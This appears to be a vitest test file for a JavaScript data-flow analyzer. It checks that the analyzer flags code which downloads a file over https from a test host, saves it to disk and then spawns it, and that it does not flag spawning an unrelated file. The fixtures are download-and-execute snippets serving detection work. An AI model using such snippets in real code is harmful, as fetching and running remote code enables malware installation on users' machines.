import { describe, expect, test } from 'vitest';
import { analyzeJs } from './facts.ts';
import { LABEL } from './labels.ts';

const HEAD = `const https = require('https'); const fs = require('fs'); const { spawn } = require('child_process');`;

/** Whether a file is started that a server's answer was written to. */
function startsDownload(code: string): boolean {
  return analyzeJs(`${HEAD} ${code}`).flow.flows.some(
    ({ sink, labels }) => sink === 'command' && (labels & LABEL.dropped) !== 0,
  );
}

describe('a file that a stream ends in holds what the stream carries', () => {
  test.each([
    [
      'by its method',
      `https.get('https://a.weir.test/x', (r) => { r.pipe(fs.createWriteStream('/opt/x')); spawn('/opt/x'); });`,
    ],
    [
      'through a name',
      `https.get('https://a.weir.test/x', (r) => { const out = fs.createWriteStream('/opt/x'); r.pipe(out); out.on('close', () => spawn('/opt/x')); });`,
    ],
    [
      'as the end of a pipeline',
      `const { pipeline } = require('stream/promises');
       const save = async (r, file) => { await pipeline(r, fs.createWriteStream(file)); return file; };
       https.get('https://a.weir.test/x', (r) => save(r, '/opt/x').then((file) => spawn(file)));`,
    ],
  ])('%s', (_what, code) => {
    expect(startsDownload(code)).toBe(true);
  });

  test('and another file does not', () => {
    expect(
      startsDownload(
        `https.get('https://a.weir.test/x', (r) => { r.pipe(fs.createWriteStream('/opt/x')); spawn('/opt/y'); });`,
      ),
    ).toBe(false);
  });
});
